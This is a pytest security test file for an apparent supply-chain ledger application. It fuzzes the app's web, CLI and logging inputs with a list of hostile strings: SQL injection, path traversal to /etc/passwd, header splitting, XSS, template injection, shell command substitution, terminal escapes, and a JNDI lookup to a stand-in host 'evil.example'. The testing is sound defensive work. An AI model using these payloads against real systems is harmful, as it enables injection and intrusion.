"""Hostile text in every place that takes text: nothing breaks, nothing is obeyed, nothing comes back as more."""

import io
import json
import logging
import os
import re
from collections.abc import Iterator, Sequence
from contextlib import suppress
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, Final, TypeVar
from urllib.parse import quote

import pytest
from asking import JSON
from click.testing import CliRunner
from fastapi import FastAPI
from keys import FOREIGN, KIND, LOCKED, PACK, bearer, event
from page_reading import HTML
from serving import HERE
from starlette.testclient import TestClient

import dicycle
from dicycle.bootstrap import Loop
from dicycle.cli import main
from dicycle.errors import InvalidInput
from dicycle.ledger.query import CONTROLS, PARAMETERS, PATTERNED
from dicycle.server.access import rows_of
from dicycle.server.app import create_app
from dicycle.server.logs import FORMAT, SafeFormatter, escaped

_T = TypeVar("_T")
CANARY: Final = "xcanary"
HOSTILE: Final = {
    "quotes": "' OR '1'='1\" OR \"\"=\"",
    "statement": "'; DROP TABLE event;-- 1) UNION SELECT body FROM event-- %_%",
    "path": "../..\\../../etc/passwd",
    "header": f"a\r\n{CANARY}: 1\r\n\r\n<{CANARY}>",
    "line": f"a\n2027-01-01 WARNING {CANARY}: forged",
    "ansi": "\x1b[31mred\x1b]0;title\x07\x9b31m",
    "nul": "a\x00b",
    "direction": "\u202eevil\u2066\u200f",
    "separators": "a\u2028b\u2029c\x85d\ufeffＡ\u0301\U0010ffff",
    "surrogate": "a\ud800b\udfff",
    "template": "{{7*7}}{% for x in y %}${7*7}#{7*7}",
    "element": f"<{CANARY}><script>alert(1)</script>",
    "out of an attribute": f'"><{CANARY} onload=alert(1)>',
    "new attribute": f"\" {CANARY}=1 ' {CANARY}=1 onfocus=alert(1) autofocus x='",
    "end of element": f"</title></textarea></style></pre><{CANARY}>--><!--",
    "scheme": f"javascript:alert(1)//data:text/html,<{CANARY}>",
    "format": "%s%n%x{0}{0.__class__}%(message)s${jndi:ldap://evil.example/a}",
    "command": "; touch xcanary | $(touch xcanary) `touch xcanary`",
    "option": "--help",
    "long": "A" * 5000,
    "number": "9" * 400,
    "minus": "-1",
    "json": '{"a":[1,{"b":null}]}' + "|" * 40,
    "urn": f"urn:epc:id:sgtin:9521234.{CANARY}.<{CANARY}>",
    "link": f"https://id.gs1.org/01/09521234000013/21/%3C{CANARY}%3E",
}
RARER: Final = frozenset({
    "separators", "template", "new attribute", "end of element", "command", "option", "number", "minus", "json", "urn",
})  # fmt: skip
"""Texts whose kind another one stands for in `make test`; `make test-all` tries them too."""

each = pytest.mark.parametrize(
    "text",
    [pytest.param(text, id=name, marks=[pytest.mark.full] if name in RARER else []) for name, text in HOSTILE.items()],
)

SAMPLES: Final = (
    "EQ_bizTransaction_po", "EQ_source_owning_party", "EQ_destination_location", "GE_value_KGM", "HASATTR_bizLocation",
    "EQATTR_bizLocation_a", "EQ_ex:a", "EQ_INNER_ILMD_ex:a", "EXISTS_SENSORREPORT_ex:a",
)  # fmt: skip
NAMES: Final = (*PARAMETERS, *CONTROLS, *SAMPLES, "perPage", "nextPageToken")
PAGES: Final = ("q", "id", "category", "before", "after", "as_of", "life", "format", "next", "perPage", "nextPageToken")
THING: Final = "/01/09521234000013/21/P-1"
HEADERS: Final = (
    "Accept", "Content-Type", "Authorization", "Cookie", "Origin", "Sec-Fetch-Site", "GS1-EPC-Format",
    "GS1-Capture-Error-Behaviour", "GS1-EPCIS-Min", "GS1-EPCIS-Max", "GS1-CBV-Min", "GS1-CBV-Max", "Range",
)  # fmt: skip
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def coded(text: str) -> str:
    """Return a text as it goes into a URL."""
    return quote(text.encode(errors="surrogatepass"), safe="")


class Elements(HTMLParser):
    """The elements and attributes of a page."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.links: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Keep the names, and what is led to; a script of ours, from a file of ours, is none that a text made."""
        ours = tag == "script" and (dict(attrs).get("src") or "").startswith("/static/")
        self.found += [*([] if ours else [tag]), *(name for name, _ in attrs)]
        self.links += [value or "" for name, value in attrs if name in ("href", "src", "action")]


def check(answer: Any) -> None:
    """Check that an answer is none of a broken server, and that nothing in it became more than text."""
    assert answer.status_code < 500, answer.text
    assert CANARY not in answer.headers
    assert not any(_CONTROL.search(value) or "\n" in value for value in answer.headers.values())
    if answer.headers.get("Content-Type", "").startswith("text/html"):
        page = Elements(answer.text)
        assert [one for one in page.found if CANARY in one or one in ("script", "iframe") or one.startswith("on")] == []
        assert [one for one in page.links if not one.startswith(("/", "?", "#"))] == []
        assert "7*7" in answer.text or "4949" not in answer.text
    elif "json" in answer.headers.get("Content-Type", ""):
        json.loads(answer.content)
    if "Location" in answer.headers:
        assert re.match(r"/(?![/\\])", answer.headers["Location"])


@pytest.fixture
def log() -> Iterator[io.StringIO]:
    """What the server writes to its log, as it is written."""
    written = io.StringIO()
    handler = logging.StreamHandler(written)
    handler.setFormatter(SafeFormatter(FORMAT))
    logger = logging.getLogger("dicycle")
    logger.addHandler(handler)
    yield written
    logger.removeHandler(handler)
    assert not _CONTROL.search(written.getvalue())
    assert all(re.match(r"\d{4}-\d\d-\d\d |  \| ", line) for line in written.getvalue().splitlines())
    assert "WARNING xcanary" not in re.sub(r"^\S+ \S+ \w+ .*$", "", written.getvalue(), flags=re.MULTILINE)


@pytest.fixture(scope="module")
def standing(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Loop, TestClient]]:
    """A server with one event that every text is tried on, one after the other."""
    with dicycle.open(tmp_path_factory.mktemp("standing") / "loop.db") as loop:
        loop.capture(event(1, bizStep="inspecting"))
        with TestClient(create_app(loop, HERE), raise_server_exceptions=False, follow_redirects=False) as client:
            yield loop, client


@pytest.fixture
def served(standing: tuple[Loop, TestClient], log: io.StringIO) -> Iterator[TestClient]:
    """A server with one event; it is the same ledger afterwards."""
    loop, client = standing
    client.cookies.clear()
    yield client
    assert [one.event_id for one in loop.store.events()] == ["urn:x:1"]


def test_the_samples_stand_for_every_pattern() -> None:
    """Each kind of parameter whose name carries something is tried."""
    assert [one.pattern for one, _ in PATTERNED if not any(one.fullmatch(name) for name in SAMPLES)] == []


def share(all: Sequence[_T], text: str, of: int) -> Sequence[_T]:
    """Return the part of many that this text is tried on: each of them is tried with every so many texts."""
    return all[list(HOSTILE.values()).index(text) % of :: of]


@each
def test_query_parameters_are_text(served: TestClient, text: str) -> None:
    """Every parameter of the standard's queries takes any text: it is understood, finds nothing, or is refused."""
    for name in share(NAMES, text, 3):
        check(served.get(f"/events?{name}={coded(text)}"))
    for name in (text, f"EQ_source_{text}", f"EQ_ATTR_bizLocation_{text}", f"EQ_ex:{text}"):
        check(served.get(f"/events?{coded(name)}=urn:x:1"))


@each
def test_parameters_of_pages_are_text(served: TestClient, text: str) -> None:
    """Every page takes any text for each of its parameters, as a person's browser sends it."""
    paths = [path for _, path, _ in rows_of(app_of(served)) if "{" not in path and path != "/static"]
    for path in dict.fromkeys([*paths, THING]):
        check(served.get(f"{path}?{'&'.join(f'{name}={coded(text)}' for name in PAGES)}", headers=HTML))
        for name in share(PAGES, text, 6):
            check(served.get(f"{path}?{name}={coded(text)}", headers=HTML))


def app_of(client: TestClient) -> FastAPI:
    """Return the application behind a client."""
    assert isinstance(client.app, FastAPI)
    return client.app


@each
def test_paths_are_text(served: TestClient, text: str) -> None:
    """Every path takes any text where it has a name in it, from programs and from browsers."""
    paths = [
        (method, path) for method, path, _ in rows_of(app_of(served)) if method in ("GET", "DELETE") and "{" in path
    ]
    for headers, part in (({}, share(paths, text, 2)), (HTML, share(paths[1:], text, 2))):
        for method, path in [*part, ("GET", "/static/{}")]:
            check(served.request(method, re.sub(r"{[^}]*}", lambda _: coded(text), path), headers=headers))
    check(served.get(f"/{coded(text)}", headers=HTML))


@each
def test_headers_are_text(served: TestClient, text: str) -> None:
    """Every header that is read takes any bytes."""
    value = text.encode(errors="surrogatepass")
    for name in share(HEADERS, text, 2):
        for path in ("/events", "/", THING):
            check(served.get(path, headers={name: value}))
        check(served.post("/capture", content=b"{}", headers={**JSON, name: value}))
    check(served.get("/events", headers={"Host": value}))
    check(served.get("/events", headers={"Authorization": b"Bearer dct_" + value, **HTML}))


@each
def test_a_sign_in_form_takes_any_text(loop: Loop, log: io.StringIO, text: str) -> None:
    """Whatever is typed for a token or stands in the way back is refused, and written back nowhere."""
    client = TestClient(create_app(loop, LOCKED), raise_server_exceptions=False, follow_redirects=False, headers=HTML)
    fields = f"token={coded(text)}&next={coded(text)}"
    form = {"Origin": "http://testserver", "Content-Type": "application/x-www-form-urlencoded"}
    answer = client.post("/sign-in", content=fields, headers=form)
    check(answer)
    assert answer.status_code == 401
    check(client.get(f"/sign-in?next={coded(text)}"))
    check(client.get(f"/events?{coded(text)}={coded(text)}"))
    check(client.get("/events", headers=bearer("x")))


@each
def test_ids_in_events_are_text(loop: Loop, log: io.StringIO, text: str) -> None:
    """Hostile names in an event are refused or kept to the letter, and each page that shows them shows text."""
    fill(loop, text)
    with TestClient(create_app(loop, HERE), raise_server_exceptions=False, follow_redirects=False) as client:
        for stored in loop.store.events():
            check(client.get(f"/event?id={coded(stored.event_id)}", headers=HTML))
        thing, place = f"/thing?id={coded(PACK)}", f"/thing?id={coded(f'https://example.com/{text}')}"
        for path in ("/", "/batteries?category=all", THING, thing, place):
            check(client.get(path, headers=HTML))
            check(client.get(path, headers={"Accept": "application/json"}))
        check(client.get("/events"))
        check(client.get("/batteries.csv"))


def fill(loop: Loop, text: str) -> None:
    """Capture what can be captured with a hostile text in it: in each field that takes a text or a URI."""
    uri = f"https://example.com/{text}"
    fields: list[dict[str, Any]] = [
        {"eventID": text}, {"eventID": uri}, {"epcList": [uri]}, {"bizStep": uri}, {"disposition": text},
        {"readPoint": {"id": uri}}, {"bizLocation": {"id": text}}, {"dcy:note": text, "dcy:x": {text: text}},
        {"errorDeclaration": {"declarationTime": "2027-01-01T00:00:00Z", "reason": uri}},
        {"bizTransactionList": [{"type": uri, "bizTransaction": uri}]},
        {"sourceList": [{"type": "owning_party", "source": uri}]}, {"eventTime": text}, {"type": text},
        {"sensorElementList": [{"sensorReport": [{"type": "Temperature", "stringValue": text, "uom": text}]}]},
        {"ilmd": {"dcy:aliases": [{"dcy:item": PACK, "dcy:alias": text}]}, "action": "ADD"},
    ]  # fmt: skip
    places = [
        {"id": id, "attributes": [{"id": "dcy:name", "attribute": text}, {"id": text, "attribute": text}]}
        for id in (uri, KIND, FOREIGN)
    ]
    known = [{"type": "urn:epcglobal:epcis:vtype:Location", "vocabularyElementList": places}]
    for value in (
        document(known),
        event(1, readPoint={"id": FOREIGN}),
        *(event(2 + n, **one) for n, one in enumerate(fields)),
    ):
        with suppress(InvalidInput):
            loop.capture(written(value))


def written(value: Any) -> bytes:
    """Return JSON in which a lone surrogate stays an escape."""
    return json.dumps(value).encode()


def document(master_data: list[Any]) -> dict[str, Any]:
    """Return a document of master data."""
    head = {"@context": event(0)["@context"], "type": "EPCISDocument", "schemaVersion": "2.0"}
    body = {"creationDate": "2027-01-01T00:00:00Z", "epcisBody": {"eventList": []}}
    return head | body | {"epcisHeader": {"epcisMasterData": {"vocabularyList": master_data}}}


@each
def test_the_command_line_says_hostile_names_as_text(tmp_path: Path, monkeypatch: Any, text: str) -> None:
    """File names, codes and ids from a command line come back without what a terminal would obey."""
    monkeypatch.chdir(tmp_path)
    text = text.replace("\0", "").encode(errors="replace").decode() + os.fsdecode(b"\xff")  # as a shell can pass it
    with dicycle.open("dicycle.db") as loop:
        loop.capture(event(1))
    before = {path.name for path in tmp_path.iterdir()}
    for command in (
        ["capture", "--", text], ["item", "--", text], ["event", "--", text], ["events", "--", f"EQ_eventID={text}"],
        ["events", "--", text], ["tokens", "revoke", "--", text], ["items", "--category", text],
        ["tokens", "issue", "--role", "partner", "--organisation", text], ["status", "--ledger", f"x/{text}"],
    ):  # fmt: skip
        check_said(command)
    assert {path.name for path in tmp_path.iterdir()} - before <= {"dicycle.db.key"}


@each
def test_the_command_line_tells_hostile_events_as_text(tmp_path: Path, monkeypatch: Any, text: str) -> None:
    """What somebody captured does not move the cursor of whoever reads it."""
    monkeypatch.chdir(tmp_path)
    with dicycle.open("dicycle.db") as loop:
        fill(loop, text)
    for command in (["events"], ["items", "--category", "all"], ["item", PACK], ["event", "urn:x:1"], ["status"]):
        check_said(command)


def check_said(command: list[str]) -> None:
    """Check that a command ends well or with a sentence, and that a terminal obeys nothing of what it says."""
    done = CliRunner().invoke(main, command)
    assert done.exception is None or isinstance(done.exception, SystemExit), (command, done.exception)
    assert not _CONTROL.search(done.output), (command, done.output)
    assert "\u202e" not in done.output, (command, done.output)
    assert "Traceback" not in done.output


@each
def test_a_line_of_the_log_is_a_line(text: str) -> None:
    """Whatever stands in a message or in an error, no line of the log can be forged, and none is lost."""
    formatter = SafeFormatter(FORMAT)
    record = logging.LogRecord("dicycle", logging.WARNING, "", 0, "asked for %s", (text,), None)
    record.exc_info = (ValueError, ValueError(text), None)
    first, *rest = formatter.format(record).split("\n")
    assert re.match(r"\d{4}-\d\d-\d\d .* WARNING dicycle: asked for ", first)
    assert all(line.startswith("  | ") and line.isprintable() for line in rest)
    assert first.isprintable()
    assert escaped(text).encode()
